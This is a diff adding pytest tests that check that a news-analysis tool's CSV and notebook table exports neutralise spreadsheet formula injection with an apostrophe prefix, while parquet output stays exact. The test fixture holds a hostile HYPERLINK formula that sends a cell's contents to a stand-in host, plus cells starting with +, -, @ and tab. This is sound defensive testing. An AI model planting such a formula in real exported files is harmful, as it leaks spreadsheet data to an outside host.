@@ -125,3 +125,42 @@ def test_the_index_is_written_only_when_asked():
     assert table_to_csv(table) == b"x\n0.3333333333\n"
     assert table_to_csv(table, index=True) == b"outlet,x\nNRC,0.3333333333\n"
     assert table.loc["NRC", "x"] == 1 / 3  # the table itself keeps every digit
+
+
+# --------------------------------------------------------------------------- formula injection
+
+HOSTILE = pd.DataFrame({
+    "outlet": pd.Categorical(['=HYPERLINK("http://x.example/?q="&A1,"NOS")', "NRC"]),
+    "title": pd.array(["+31 20 123", "@bestuur"], dtype="string"),
+    "text": ["-5 graden en sneeuw", "\tingesprongen"],
+    "=count": [1, -2],
+    "polarity": [-0.5, 0.25],
+})
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
+    assert table_to_csv(HOSTILE).decode("utf-8").splitlines() == [
+        "outlet,title,text,'=count,polarity",
+        '"\'=HYPERLINK(""http://x.example/?q=""&A1,""NOS"")",\'+31 20 123,'
+        "'-5 graden en sneeuw,1,-0.5",
+        "NRC,'@bestuur,'\tingesprongen,-2,0.25",
+    ]
+    assert HOSTILE["outlet"][0].startswith("=")  # the table itself is exact
+
+
+def test_command_line_tables_are_neutralised_as_csv_and_exact_as_parquet(tmp_path, capsys):
+    write_table(HOSTILE, str(tmp_path / "t.csv"))
+    back = pd.read_csv(tmp_path / "t.csv")
+    assert back["outlet"].tolist()[0] == '\'=HYPERLINK("http://x.example/?q="&A1,"NOS")'
+    assert back["title"].tolist() == ["'+31 20 123", "'@bestuur"]
+    write_table(HOSTILE, str(tmp_path / "t.parquet"))
+    exact = pd.read_parquet(tmp_path / "t.parquet")
+    assert exact["outlet"].astype(str).tolist() == HOSTILE["outlet"].astype(str).tolist()
+    assert exact["text"].tolist() == HOSTILE["text"].tolist()
+    assert exact["=count"].tolist() == [1, -2]
+
+
+def test_notebook_tables_are_neutralised(tmp_path, monkeypatch):
+    monkeypatch.setattr(figures, "_CONTEXT", figures._Context())
+    written = table_save(HOSTILE[["outlet", "text"]], "t", out_dir=tmp_path).read_text("utf-8")
+    assert "\n\"'=HYPERLINK" in written and ",'-5 graden" in written
